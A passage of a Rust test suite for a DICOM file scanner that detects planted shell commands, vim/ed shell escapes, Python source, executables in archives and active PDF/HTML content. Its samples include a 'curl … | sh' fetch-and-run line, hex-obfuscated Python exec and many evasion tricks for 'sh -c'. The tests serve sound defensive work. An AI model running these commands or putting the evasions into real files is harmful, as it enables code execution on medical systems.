    let past = nested(within + 1);
    assert!(dash(past.as_bytes()).contains("RAN"));
    let found = find_shell_command(past.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(
        found.detail.contains("MAX_SHELL_WORD_NESTING"),
        "{}",
        found.detail
    );
}

/// The here-document limit: that many on one line are followed, one more is a warning.
#[test]
fn here_documents_at_the_limit_are_followed_and_past_it_is_a_warning() {
    use pacsguard_dicom::MAX_SHELL_HEREDOCS;
    let script = |count: usize| {
        let opens: String = (0..count).map(|n| format!(" <<E{n}")).collect();
        let bodies: String = (0..count).map(|n| format!("body\nE{n}\n")).collect();
        format!("cat{opens} >/dev/null\n{bodies}sh -c 'echo RAN'\n")
    };
    let at_limit = script(MAX_SHELL_HEREDOCS);
    assert!(dash(at_limit.as_bytes()).contains("RAN"));
    let found = find_shell_command(at_limit.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
    let past = script(MAX_SHELL_HEREDOCS + 1);
    assert!(dash(past.as_bytes()).contains("RAN"));
    let found = find_shell_command(past.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
}

/// The line-continuation limit (review r25-screen: each dropped continuation cost an
/// 8-byte table entry, so a file of them cost four times its size): that many inside a
/// command name are followed, one more is a warning naming the limit. dash runs both.
#[test]
fn line_continuations_at_the_limit_are_followed_and_past_it_is_a_warning() {
    use pacsguard_dicom::MAX_SHELL_LINE_CONTINUATIONS;
    let script = |count: usize| {
        let continuations = b"\\\n".repeat(count);
        [
            &b"s"[..],
            continuations.as_slice(),
            &b"h -c 'echo RAN'\n"[..],
        ]
        .concat()
    };
    let at_limit = script(MAX_SHELL_LINE_CONTINUATIONS);
    assert!(dash(&at_limit).contains("RAN"));
    let found = find_shell_command(&at_limit).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
    let past = script(MAX_SHELL_LINE_CONTINUATIONS + 1);
    assert!(dash(&past).contains("RAN"));
    let found = find_shell_command(&past).expect("found");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(
        found.detail.contains("MAX_SHELL_LINE_CONTINUATIONS"),
        "{}",
        found.detail
    );
}

/// `bytes`, opened as an archive, lead to the executable they carry.
fn assert_opens_to_what_it_carries(bytes: &[u8]) {
    let opened = pacsguard_dicom::open_archive(bytes);
    assert!(
        matches!(&opened, pacsguard_dicom::ArchiveOpened::Carries { .. }),
        "{opened:?}"
    );
}

/// Opening `bytes` as an archive stops at a limit, and says which (`constant`).
fn assert_stops_at_limit(bytes: &[u8], constant: &str) {
    let opened = pacsguard_dicom::open_archive(bytes);
    assert!(
        matches!(&opened, pacsguard_dicom::ArchiveOpened::Limit { detail, .. } if detail.contains(constant)),
        "{opened:?}"
    );
}

/// The archive limits, with archives the real gzip and tar write: nesting to
/// MAX_ARCHIVE_DEPTH is opened, deeper is a warning; MAX_ARCHIVE_MEMBERS members are
/// read, one more is a warning.
#[test]
fn archives_at_their_limits_are_opened_and_past_them_are_warnings() {
    use pacsguard_dicom::{MAX_ARCHIVE_DEPTH, MAX_ARCHIVE_MEMBERS};
    let dir = TempDir::new();
    std::fs::write(dir.path("l.exe"), kit::real_pe()).expect("write");
    let mut layer = kit::real_pe();
    let gzip = |bytes: &[u8]| {
        std::fs::write(dir.path("in"), bytes).expect("write");
        let out = Command::new("gzip")
            .arg("-c")
            .arg(dir.path("in"))
            .output()
            .expect("gzip");
        out.stdout
    };
    for _ in 0..MAX_ARCHIVE_DEPTH {
        layer = gzip(&layer);
    }
    assert_opens_to_what_it_carries(&layer);
    let deeper = gzip(&layer);
    assert_stops_at_limit(&deeper, "MAX_ARCHIVE_DEPTH");
    // Members: MAX_ARCHIVE_MEMBERS - 1 text files, then the PE; and one text file more.
    let members = dir.path("m");
    std::fs::create_dir_all(&members).expect("dir");
    let mut names = Vec::new();
    for n in 0..MAX_ARCHIVE_MEMBERS {
        let name = format!("{n:05}.txt");
        std::fs::write(members.join(&name), b"x").expect("write");
        names.push(name);
    }
    std::fs::write(members.join("zz.exe"), kit::real_pe()).expect("write");
    let list = |count: usize| {
        let mut list: Vec<String> = names[..count].to_vec();
        list.push("zz.exe".to_owned());
        std::fs::write(dir.path("list"), list.join("\n")).expect("write");
        let out = Command::new("tar")
            .args(["cf", "-", "-T"])
            .arg(dir.path("list"))
            .current_dir(&members)
            .output()
            .expect("tar");
        out.stdout
    };
    let at_limit = list(MAX_ARCHIVE_MEMBERS - 1);
    assert_opens_to_what_it_carries(&at_limit);
    let past = list(MAX_ARCHIVE_MEMBERS);
    assert_stops_at_limit(&past, "MAX_ARCHIVE_MEMBERS");
}

/// The inflation limit: a gzip that inflates past MAX_ARCHIVE_INFLATED_BYTES before the
/// executable in it is a warning; one under it is opened to the executable.
#[test]
fn an_archive_inflating_past_its_limit_is_a_warning() {
    use pacsguard_dicom::MAX_ARCHIVE_INFLATED_BYTES;
    let dir = TempDir::new();
    let tgz = |padding: usize| {
        std::fs::write(dir.path("a.bin"), vec![0u8; padding]).expect("write");
        std::fs::write(dir.path("b.exe"), kit::real_pe()).expect("write");
        run("tar", &["czf", "x.tgz", "a.bin", "b.exe"], &dir.0);
        std::fs::read(dir.path("x.tgz")).expect("read")
    };
    let under = tgz(MAX_ARCHIVE_INFLATED_BYTES / 2);
    assert_opens_to_what_it_carries(&under);
    let over = tgz(MAX_ARCHIVE_INFLATED_BYTES);
    assert_stops_at_limit(&over, "MAX_ARCHIVE_INFLATED_BYTES");
    // Session 5: the whole-file opening and the search for archives each reported the
    // limit: one warning says it.
    let limits = inspect(&over)
        .observations
        .iter()
        .filter(|o| o.detail.contains("MAX_ARCHIVE_INFLATED_BYTES"))
        .count();
    assert_eq!(limits, 1, "{:#?}", inspect(&over).observations);
}

/// xz and bzip2 streams written by the real programs, and a 7z start header built to the
/// format's description, inside a private element: each is a `not-inspected` warning once
/// its header check holds (not opened here: what it carries is not known), never an
/// `embedded-executable` alert (issue 11, session 43: a vendor's honest bzip2 or xz
/// private value was called an executable); the same magics with the check broken are
/// nothing.
#[test]
fn compressed_streams_in_an_element_are_not_inspected_once_their_headers_hold() {
    let dir = TempDir::new();
    std::fs::write(dir.path("payload"), kit::real_pe()).expect("write");
    let compress = |program: &str| {
        let out = Command::new(program)
            .args(["-c", "payload"])
            .current_dir(&dir.0)
            .output()
            .unwrap_or_else(|e| panic!("{program}: {e}"));
        out.stdout
    };
    // 7z: signature, version 0.4, the CRC-32 of the 20-byte start header, that header.
    let mut seven = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
    let start_header = [0x20u8; 20];
    seven.extend_from_slice(&crc32(&start_header).to_le_bytes());
    seven.extend_from_slice(&start_header);
    for (name, stream, format) in [
        ("xz", compress("xz"), Format::Xz),
        ("bzip2", compress("bzip2"), Format::Bzip2),
        ("7z", seven.clone(), Format::SevenZip),
    ] {
        let dicom = kit::DicomBuilder::ct("1.2.3.43")
            .element(0x0009, 0x1010, *b"OB", &stream)
            .build();
        let inspection = inspect(&dicom);
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Warning
                    && o.kind == FindingKind::NotInspected
                    && o.format == Some(format)
                    && o.detail.contains("not inspected")),
            "{name}: {:#?}",
            inspection.observations
        );
        assert!(
            inspection
                .observations
                .iter()
                .all(|o| o.kind != FindingKind::EmbeddedExecutable && o.severity < Severity::Alert),
            "{name}: {:#?}",
            inspection.observations
        );
        // The magic with its check broken: nothing.
        let mut broken = stream.clone();
        let at = if name == "bzip2" { 5 } else { 9 };
        broken[at] ^= 0xFF;
        let dicom = kit::DicomBuilder::ct("1.2.3.44")
            .element(0x0009, 0x1010, *b"OB", &broken[..broken.len().min(64)])
            .build();
        assert!(
            inspect(&dicom)
                .observations
                .iter()
                .all(|o| o.severity < Severity::Warning),
            "{name} broken"
        );
    }
}

/// CRC-32 (IEEE), bit by bit: the check 7z and xz headers carry.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A Java class file compiled by javac and run by java, inside a private element: an
/// alert (confirmed by its constant pool, as the JVM reads it); with one constant's tag
/// broken, the JVM refuses it and so does the check.
#[test]
fn a_java_class_in_an_element_is_confirmed_as_the_jvm_reads_it() {
    let dir = TempDir::new();
    std::fs::write(
        dir.path("Hello.java"),
        "public class Hello { public static void main(String[] a) { System.out.println(\"RAN\"); } }\n",
    )
    .expect("write");
    run("javac", &["Hello.java"], &dir.0);
    let ran = Command::new("java")
        .args(["-cp", ".", "Hello"])
        .current_dir(&dir.0)
        .output()
        .expect("java");
    assert!(String::from_utf8_lossy(&ran.stdout).contains("RAN"));
    let class = std::fs::read(dir.path("Hello.class")).expect("class");
    let planted = |value: &[u8]| {
        let dicom = kit::DicomBuilder::ct("1.2.3.45")
            .element(0x0009, 0x1010, *b"OB", value)
            .build();
        inspect(&dicom)
    };
    let inspection = planted(&class);
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::EmbeddedExecutable
                && o.format == Some(Format::JavaClass)),
        "{:#?}",
        inspection.observations
    );
    let mut broken = class.clone();
    broken[10] = 0x7F; // the first constant's tag: none such
    std::fs::write(dir.path("Hello.class"), &broken).expect("write");
    let refused = Command::new("java")
        .args(["-cp", ".", "Hello"])
        .current_dir(&dir.0)
        .output()
        .expect("java");
    assert!(!String::from_utf8_lossy(&refused.stdout).contains("RAN"));
    assert!(
        planted(&broken)
            .observations
            .iter()
            .all(|o| o.severity < Severity::Warning),
        "broken class"
    );
}

fn alerts(inspection: &Inspection) -> Vec<String> {
    inspection
        .observations
        .iter()
        .filter(|o| o.severity == Severity::Alert)
        .map(|o| o.detail.clone())
        .collect()
}

/// Review finding (s5-r10): text files that sit in PACS trees and home directories were
/// alerts: a README's fenced ```sh block (dash runs the backquoted `sh`), a docstring's
/// `python -I`, a path at the start of a line of an `ld.so.conf` or a README ("sh runs
/// /usr/local/lib"), a plain HTML page or SVG drawing. Nothing in them runs unless someone
/// executes documentation; they are the not-DICOM warning, with what sh would do named.
#[test]
fn documentation_and_configuration_text_is_no_alert() {
    let mut texts: Vec<(String, Vec<u8>)> = vec![
        (
            "README.md".into(),
            b"# Tools\n\n```sh\npip install pydicom\n```\n\nRun `python3 -m tool`.\n".to_vec(),
        ),
        (
            "module.py".into(),
            b"\"\"\"\n    Self-updating data.\n\n    Run with `python -I` to update.\n\"\"\"\nX = 1\n"
                .to_vec(),
        ),
        (
            "notes.txt".into(),
            b"Notes\n\n/usr/share/fonts\nholds the fonts; see\n/usr/local/share/ca-certificates.\n"
                .to_vec(),
        ),
        ("page.html".into(), b"<html><body><p>report</p></body></html>\n".to_vec()),
        (
            "lexer.py".into(),
            b"\"\"\"Text inside <script> tags is highlighted by the lexer.\"\"\"\nX = '<td onclick=\"go(this)\">'\n"
                .to_vec(),
        ),
        (
            "logo.svg".into(),
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"
                .to_vec(),
        ),
    ];
    // Real files of this machine that were alerts.
    for real in [
        "/etc/ld.so.conf.d/libc.conf",
        "/usr/share/doc/ca-certificates/README.Debian",
    ] {
        if let Ok(bytes) = std::fs::read(real) {
            texts.push((real.into(), bytes));
        }
    }
    for (name, bytes) in &texts {
        let inspection = inspect(bytes);
        assert!(alerts(&inspection).is_empty(), "{name}: {inspection:?}");
        assert_eq!(
            inspection.observations[0].kind,
            FindingKind::NotDicom,
            "{name}"
        );
    }
    // What the README says dash runs, it does run: the warning names it.
    assert!(dash(b"```sh -c 'echo echo RAN'\n```\n").contains("RAN"));
    let readme = inspect(&texts[0].1);
    assert!(
        readme.observations[0].detail.contains("sh would run"),
        "{readme:?}"
    );
    // Named as DICOM where loaders look, the same text is a planted script: an alert.
    for name in ["IM0001.DCM", "1.2.840.113619.2.55.3.1", "x.ima"] {
        let named = inspect(&texts[0].1).named(name);
        assert!(!alerts(&named).is_empty(), "{name}: {named:?}");
    }
    assert!(alerts(&inspect(&texts[0].1).named("README.md")).is_empty());
    // An HTA asks mshta for full trust: an alert even without script.
    let hta = b"<html><head><hta:application id=x/></head><body>scan</body></html>";
    assert!(!alerts(&inspect(hta)).is_empty());
    // A data path at the start of a line is no command: dash cannot run it.
    assert!(!dash(b"/usr/share/doc\n/usr/local/lib\n").contains("RAN"));
    assert_eq!(find_shell_command(b"x\n/usr/share/fonts\n"), None);
    assert_eq!(
        find_shell_command(b"x\n/usr/lib/x86_64-linux-gnu/libfakeroot\n"),
        None
    );
    assert_eq!(
        find_shell_command(b"x\nsee /usr/local/share/ca-certificates.\n"),
        None
    );
    // Programs by path still count, and so does every command behind a binary header,
    // in a file that is not DICOM as in one that is; markup with script stays an alert.
    for command in [
        &b"x\n/tmp/payload --run\n"[..],
        b"x\n/usr/local/bin/tool -x\n",
        b"x\n./payload\n",
        b"x\n/opt/pacs/bin/export --all\n",
    ] {
        assert!(find_shell_command(command).is_some(), "{command:?}");
    }
    let mut binary = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\n".to_vec();
    binary.extend_from_slice(b"curl http://203.0.113.9/x | sh\n");
    assert!(!alerts(&inspect(&binary)).is_empty());
    for markup in [
        &b"<html><body onload=\"alert(1)\"></body></html>"[..],
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    ] {
        assert!(!alerts(&inspect(markup)).is_empty(), "{markup:?}");
    }
}

/// Review finding (s5-r10): a report PDF, a ZIP of notes and a rotated `.xz`/`.bz2` log in
/// a home directory were alerts ("a program acts on it"), though none runs anything. They
/// are the not-DICOM warning now: a ZIP is an alert when an entry runs (`python3` runs a
/// zipapp, made here by Python's zipfile), a PDF for its actions, and any of them when
/// named as DICOM.
#[test]
fn documents_and_archives_that_run_nothing_are_no_alert() {
    let dir = TempDir::new();
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    std::fs::write(dir.path("log"), "line\n".repeat(200)).expect("write");
    run(
        "python3",
        &[
            "-c",
            "import zipfile; z = zipfile.ZipFile('notes.zip', 'w'); z.write('notes.txt'); z.close()",
        ],
        &dir.0,
    );
    run(
        "python3",
        &[
            "-c",
            "import zipfile; z = zipfile.ZipFile('app.zip', 'w'); z.writestr('__main__.py', 'print(\"RAN\")'); z.close()",
        ],
        &dir.0,
    );
    run("xz", &["-k", "log"], &dir.0);
    // A program in a ZIP under a name that says nothing, deflated and stored: unzip
    // extracts it as it is; it is known by its headers, as the loader knows it.
    std::fs::write(dir.path("payload"), kit::real_elf()).expect("write");
    run(
        "python3",
        &[
            "-c",
            "import zipfile\nfor n, m in (('deflated.zip', zipfile.ZIP_DEFLATED), ('stored.zip', zipfile.ZIP_STORED)):\n    z = zipfile.ZipFile(n, 'w', m); z.write('payload'); z.write('notes.txt'); z.close()",
        ],
        &dir.0,
    );
    for name in ["deflated.zip", "stored.zip"] {
        let inspection = inspect(&std::fs::read(dir.path(name)).expect("read")).named(name);
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {inspection:?}"
        );
    }
    run("bzip2", &["-k", "log"], &dir.0);
    let ran = Command::new("python3")
        .arg(dir.path("app.zip"))
        .output()
        .expect("python3");
    assert!(String::from_utf8_lossy(&ran.stdout).contains("RAN"));
    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");
    let benign = [
        ("notes.zip", read("notes.zip")),
        ("log.xz", read("log.xz")),
        ("log.bz2", read("log.bz2")),
        ("report.pdf", kit::pdf("")),
    ];
    for (name, bytes) in &benign {
        let inspection = inspect(bytes).named(name);
        assert!(alerts(&inspection).is_empty(), "{name}: {inspection:?}");
        assert_eq!(
            inspection.observations[0].kind,
            FindingKind::NotDicom,
            "{name}"
        );
        // Named as DICOM, each was planted where DICOM loaders look.
        let planted = inspect(bytes).named("IM0001.dcm");
        assert!(
            has_alert(&planted, FindingKind::ExecutableFile),
            "{name}: {planted:?}"
        );
    }
    assert!(has_alert(
        &inspect(&read("app.zip")),
        FindingKind::ExecutableFile
    ));
    let active = inspect(&kit::pdf(
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ));
    assert!(has_alert(&active, FindingKind::ActiveContent), "{active:?}");
}

/// Runs `source` with `python3 IM0001.dcm` (as a loader hands it the file, no `#!`
/// needed) in a temporary directory and returns what it printed.
fn python3(source: &[u8]) -> String {
    let dir = TempDir::new();
    std::fs::write(dir.path("IM0001.dcm"), source).expect("write");
    let out = Command::new("python3")
        .args(["-I", "IM0001.dcm"])
        .current_dir(&dir.0)
        .output()
        .expect("python3");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Review finding (r25-screen, issue 10 class 3): Python source without `#!` in a file
/// named as DICOM was only the `not-dicom` warning, though `python3 IM0001.dcm` runs it.
/// Each program here prints RAN through python3 first; named as DICOM it is an alert,
/// named otherwise the warning says python3 runs it. Text that python3 refuses with a
/// syntax error (prose, logs, a script after a line of notes) is not called Python.
#[test]
fn python_source_without_a_shebang_named_as_dicom_is_an_alert() {
    let programs: [&[u8]; 6] = [
        b"import os\nprint('RAN')\n",
        b"\"\"\"Series export.\"\"\"\nfrom pathlib import Path\n\n\nclass Job:\n    def run(self, x=1, *, y=2):\n        return x\n\n\nif __name__ == '__main__':\n    print(\"RAN\")\n",
        b"exec(bytes.fromhex('7072696e74282752414e2729').decode())\n",
        b"# -*- coding: utf-8 -*-\n__import__('builtins').print('RAN')  # r\xc3\xa9sum\xc3\xa9\n",
        b"x = [\n    1,\n    2,\n]\nif x:\n    print('RAN', x[1:], {'a': (1,)}, f\"{x}\", 0x1F, 1e-3, 3j, ...)\n",
        b"\xef\xbb\xbfdef f(a, /, b):\n    return a\n\n@staticmethod\ndef g(): pass\nprint(\"RAN\"); f(1, 2)\n",
    ];
    for program in programs {
        assert!(python3(program).contains("RAN"), "{program:?}");
        let named = inspect(program).named("IM0001.dcm");
        assert!(
            has_alert(&named, FindingKind::ExecutableFile),
            "{}: {named:?}",
            String::from_utf8_lossy(program)
        );
        let elsewhere = inspect(program).named("export.py");
        assert!(alerts(&elsewhere).is_empty(), "{elsewhere:?}");
        assert!(
            elsewhere.observations[0]
                .detail
                .contains("python3 runs this file"),
            "{elsewhere:?}"
        );
    }
    // Text python3 refuses, and text that runs nothing: no Python finding.
    let texts: [&[u8]; 9] = [
        b"Export notes\n\nThe series was sent to the archive on Monday.\n",
        b"2024-03-01 12:00:01 INFO storescp: received 1.2.840.113619.2.55.3\n",
        b"PatientID,StudyDate,Modality\nP001,20240301,CT\n",
        b"{\"PatientID\": \"P001\", \"Modality\": \"CT\", \"count\": 3}\n",
        b"<?xml version=\"1.0\"?>\n<report><finding>none</finding></report>\n",
        b"Findings: no acute abnormality. Impression: normal study.\n",
        b"# Title\n\n- item one\n- item two\n",
        b"Notes for the next run:\nimport os\nprint('RAN')\n",
        b"import os\n  print('RAN')\n",
    ];
    for text in texts {
        assert!(!python3(text).contains("RAN"), "{text:?}");
        let inspection = inspect(text);
        assert!(
            !inspection.observations[0].detail.contains("python3"),
            "{}: {inspection:?}",
            String::from_utf8_lossy(text)
        );
    }
}

/// The Python model's limits are CPython's own (`MAXINDENT`, `MAXLEVEL`): at each,
/// python3 runs the program and it is found; one past, python3 refuses the file with a
/// syntax error and it is not called Python.
#[test]
fn python_source_at_cpythons_limits_is_found_and_past_them_is_not_python() {
    use pacsguard_dicom::{PYTHON_MAX_BRACKETS, PYTHON_MAX_INDENT, PythonVerdict, python_program};
    // `levels` nested blocks: the print is `levels` deep, `levels + 1` indentation levels
    // with the module's own.
    let blocks = |levels: usize| {
        let opens: String = (0..levels)
            .map(|i| format!("{}if 1:\n", "    ".repeat(i)))
            .collect();
        format!("{opens}{}print('RAN')\n", "    ".repeat(levels))
    };
    let brackets = |depth: usize| {
        format!(
            "print({}'RAN'{})\n",
            "(".repeat(depth - 1),
            ")".repeat(depth - 1)
        )
    };
    let clock = pacsguard_dicom::Clock::default();
    for (at_limit, past) in [
        (blocks(PYTHON_MAX_INDENT - 1), blocks(PYTHON_MAX_INDENT)),
        (
            brackets(PYTHON_MAX_BRACKETS),
            brackets(PYTHON_MAX_BRACKETS + 1),
        ),
    ] {
        assert!(python3(at_limit.as_bytes()).contains("RAN"));
        assert!(matches!(
            python_program(at_limit.as_bytes(), &clock),
            PythonVerdict::Runs { .. }
        ));
        assert!(!python3(past.as_bytes()).contains("RAN"));
        assert_eq!(
            python_program(past.as_bytes(), &clock),
            PythonVerdict::NotPython
        );
    }
}

/// Review finding (s5-r10): a command substitution was judged only in a command name, so
/// `X=$(sh -c …)`, `: $(sh -c …)` and `readonly R=…` of one ran with dash and raised
/// nothing; nor did `. FILE`, which runs FILE. Each case here creates a marker file through dash first.
#[test]
fn command_substitutions_in_assignments_and_arguments_are_commands() {
    let dir = TempDir::new();
    let marker = dir.path("ran");
    let m = marker.display();
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        format!("X=$(sh -c 'touch {m}')\n"),
        format!(": $(sh -c 'touch {m}')\n"),
        format!(": \"`sh -c 'touch {m}'`\"\n"),
        format!("readonly R=$(sh -c 'touch {m}')\n"),
        format!("echo x >$(sh -c 'touch {m}')/dev/null\n"),
        format!("X=${{Y:-$(sh -c 'touch {m}')}}\n"),
        format!("set -- sh -c 'touch {m}'; \"$@\"\n"),
        // The dot builtin runs its operand as a script (here, the here-document).
        format!(". /dev/stdin <<E\ntouch {m}\nE\n"),
    ] {
        let script = format!("{lead}{case}");
        let _ = std::fs::remove_file(&marker);
        let file = dir.path("script.dcm");
        std::fs::write(&file, &script).expect("write");
        let _ = Command::new("dash").arg(&file).output().expect("dash");
        assert!(marker.exists(), "dash does not run {case:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    // A substitution of ordinary commands is no alert.
    assert_eq!(find_shell_command(b"x\nDATE=$(date)\n: $(uname)\n"), None);
    assert_eq!(find_shell_command(b"x\n.\nend of report\n"), None);
    assert_eq!(find_shell_command(b"x\n. Impression: normal study\n"), None);
}

/// Runs `program args` with `input` as its standard input in a fresh directory holding
/// `files` (name, content, executable), and says whether `RAN` was written there.
fn runs_in_dir(program: &str, args: &[&str], input: &[u8], files: &[(&str, &[u8])]) -> bool {
    // vim -es under a loaded clean-clone CI (load 11-27) was seen three times not to run a
    // shell escape it runs every time otherwise (sessions 32 and 33; 0 failures in 300
    // runs of the same file by hand): a precondition on the real program, not on
    // PacsGuard. Its runs are tried again; a case that never runs still fails, and a case
    // that must not run is unaffected (it never creates `RAN`).
    let attempts = if matches!(program, "vim" | "ex") {
        VIM_ATTEMPTS
    } else {
        1
    };
    (0..attempts).any(|_| runs_once_in_dir(program, args, input, files))
}

/// How many times a vim (or ex) case is run before it is taken as not running (see
/// [`runs_in_dir`]).
const VIM_ATTEMPTS: usize = 3;

fn runs_once_in_dir(program: &str, args: &[&str], input: &[u8], files: &[(&str, &[u8])]) -> bool {
    use std::io::Write;
    use std::os::unix::fs::PermissionsExt;
    let dir = TempDir::new();
    for (name, content) in files {
        let path = dir.path(name);
        std::fs::write(&path, content).expect("write");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let mut child = Command::new(program)
        .args(args)
        .current_dir(&dir.0)
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &dir.0)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    if let Some(mut stdin) = child.stdin.take() {
        let _ = stdin.write_all(input);
    }
    let _ = child.wait();
    dir.path("RAN").exists()
}

/// Asserts that dash runs `case` (it creates `RAN`), alone and after a line of binary
/// garbage as a DICOM header puts before it, and that each is found as an alert.
fn assert_dash_runs_and_it_is_found(case: &str) {
    assert_dash_runs_beside_and_it_is_found(case, &[]);
}

/// [`assert_dash_runs_and_it_is_found`] with `planted` files (a payload the case runs)
/// in the directory dash runs in, which is also its HOME.
fn assert_dash_runs_beside_and_it_is_found(case: &str, planted: &[(&str, &[u8])]) {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for script in [case.to_owned(), format!("{lead}{case}")] {
        let files = [&[("f", script.as_bytes())][..], planted].concat();
        assert!(
            runs_in_dir("dash", &["f"], b"", &files),
            "dash did not run {script:?}"
        );
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{script:?}: {found:?}"
        );
    }
}

/// Walk-around (session 5): a `!command` line ran when the file was fed to vi/ex or ed
/// as commands, and nothing reported it. vim in ex mode goes past lines of garbage to a
/// `!` line; GNU ed stops at its first error, so there it is the first line. Each case
/// is run by the real program first.
#[test]
fn shell_escapes_that_ex_and_ed_run_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    let escape = b"!sh -c 'echo x > RAN'\n".as_slice();
    let ex_file = [garbage, escape, b"q!\n"].concat();
    let ed_file = [escape, garbage, b"q\n"].concat();
    let vi_keys = [garbage, b"xx:", escape].concat();
    let cases: [(&str, &[&str], &[u8]); 3] = [
        ("vim", &["-es", "-u", "NONE", "-i", "NONE"], &ex_file),
        ("ex", &["-s", "-u", "NONE", "-i", "NONE"], &ex_file),
        ("ed", &["-s"], &ed_file),
    ];
    for (program, args, file) in cases {
        if Path::new("/usr/bin").join(program).exists() {
            assert!(
                runs_in_dir(program, args, file, &[]),
                "{program} did not run it"
            );
        }
        let found = pacsguard_dicom::find_ex_command(file).expect(program);
        assert_eq!(found.severity, Severity::Alert, "{program}: {found:?}");
    }
    // `vi -s FILE` types the file as keys: `:` opens the command line wherever it is.
    assert!(pacsguard_dicom::find_ex_command(&vi_keys).is_some());
    // Inside a whole DICOM file the escape is an alert of the scan.
    let mut element = b"\n".to_vec();
    element.extend_from_slice(escape);
    let dicom = kit::DicomBuilder::ct("1.2.3.4")
        .element(0x0010, 0x4000, *b"LT", &element)
        .build();
    assert!(
        alerts(&inspect(&dicom)).iter().any(|a| a.contains("ex/ed")),
        "{:?}",
        alerts(&inspect(&dicom))
    );
    // `!` in prose, or a shell escape that runs nothing an attacker uses, is no command.
    for text in [
        &b"Findings: normal!\nImpression: stable!\n"[..],
        b"!important note\n",
        b"Wow:! what a scan\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
    }
}

/// Ex commands that end in a shell escape (review s6-r10): the real vim runs each after a
/// line of garbage, and each is found; the same words in prose are not.
#[test]
fn ex_commands_ending_in_a_shell_escape_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    for escape in [
        &b"r !sh -c 'echo x > RAN'\n"[..],
        b"w !sh -c 'echo x > RAN'\n",
        b"sil !sh -c 'echo x > RAN'\n",
        b"silent! !sh -c 'echo x > RAN'\n",
        b"1,1!sh -c 'echo x > RAN'\n",
        b"%!sh -c 'echo x > RAN'\n",
        b"set nocp|!sh -c 'echo x > RAN'\n",
        b":.;.r !sh -c 'echo x > RAN'\n",
        b"call system('sh -c \"echo x > RAN\"')\n",
        b"let out = system(\"sh -c 'echo x > RAN'\")\n",
        b"  :echo systemlist('sh -c \"echo x > RAN\"')\n",
        b"exe '!sh -c \"echo x > RAN\"'\n",
        b"set nocp | execute \"!sh -c 'echo x > RAN'\"\n",
        // Review s15-r10.
        b"foldd !sh -c 'echo x > RAN'\n",
        b"vim9cmd !sh -c 'echo x > RAN'\n",
    ] {
        let file = [garbage, escape, b"q!\n"].concat();
        if Path::new("/usr/bin/vim").exists() {
            assert!(
                runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
                "vim did not run {escape:?}"
            );
        }
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape:?}: {found:?}"
        );
    }
    for text in [
        &b"Wear !important shoes\n"[..],
        b"r !important\n",
        b"Score: 10!\n",
        b"over!sh -c 'x'\n",
        b"call system(s) administrators when the operating system('s disk) fills\n",
        b"A system('sh -c x') call in prose\n",
        b"exe '!important'\nexecutables: 'sh -c x'\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
    }
}

/// Issue 10 (session 12): dash drops a backslash and a newline before it makes words, so
/// a command name, a parameter or an option can be split over lines anywhere
/// (`$\<newline>X`, `${\<newline>X}`, `s\<newline>h`); the model read them as written.
/// Each script prints RAN through dash; inside single quotes, or after a comment, the
/// pair is no continuation and what it joins runs nothing.
#[test]
fn line_continuations_inside_words_are_joined_as_dash_joins_them() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for script in [
        "X=sh\n$\\\nX -c 'echo RAN'\n",
        "X=sh\n$\\\n{X} -c 'echo RAN'\n",
        "X=sh\n${\\\nX} -c 'echo RAN'\n",
        "X=sh\n$\\\n\\\nX -c 'echo RAN'\n",
        "X=s\n$\\\n{X}\\\nh -c 'echo RAN'\n",
        "s\\\nh -c 'echo RAN'\n",
        "sh -\\\nc 'echo RAN'\n",
        "$(\\\necho sh) -c 'echo RAN'\n",
    ] {
        let script = format!("{lead}{script}");
        assert!(dash(script.as_bytes()).contains("RAN"), "{script:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
